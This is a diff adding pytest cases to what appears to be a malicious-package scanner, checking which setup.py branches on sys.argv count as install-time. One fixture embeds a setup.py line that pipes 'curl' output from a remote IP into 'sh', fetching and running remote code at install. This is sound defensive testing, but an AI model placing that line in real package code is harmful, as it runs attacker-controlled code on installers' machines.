@@ -4355,3 +4355,53 @@ def test_setup_deleting_itself_or_code_beside_it_still_blocks(target):
     src = "import sys, pathlib\n" + src
     result = scan({"setup.py": src, "demo/__init__.py": ""})
     assert severities(result, "intent.self-delete") == {"high"}
+
+
+# -- setup.py branches for commands no installer gives ----------------------------------------
+
+
+@pytest.mark.parametrize(
+    "test",
+    [
+        '"sdist" in sys.argv',  # python-openid: docs built into the sdist
+        'sys.argv[-1] == "syncci"',  # slumber: a project's own command
+        'len(sys.argv) > 1 and sys.argv[1] == "clean"',
+        'sys.argv[1] in ("sdist", "upload")',
+        '"upload" in sys.argv',
+    ],
+)
+def test_a_setup_branch_for_a_command_no_installer_gives_is_not_install_time(test):
+    src = f"""
+        import os, sys
+        from setuptools import setup
+        if {test}:
+            os.system("./admin/makedoc")
+            os.system("panci --to=tox .travis.yml > tox.ini")
+            sys.exit()
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src, "demo/__init__.py": ""})
+    assert not [f for f in result.findings if f.severity in ("high", "critical")]
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "test",
+    [
+        '"install" in sys.argv or "sdist" in sys.argv',  # an install command too
+        'sys.argv[1] in ("sdist", "bdist_wheel")',
+        '"egg_info" in sys.argv',
+        'sys.argv[1] != "sdist"',  # every other command
+        '"--user" in sys.argv',  # an option a person hands through pip
+        'sys.argv[0] == "setup.py"',  # what an installer runs it as
+    ],
+)
+def test_a_setup_branch_an_install_may_take_still_runs_at_install(test):
+    src = f"""
+        import os, sys
+        from setuptools import setup
+        if {test}:
+            os.system("curl -s http://198.51.100.7/x | sh")
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
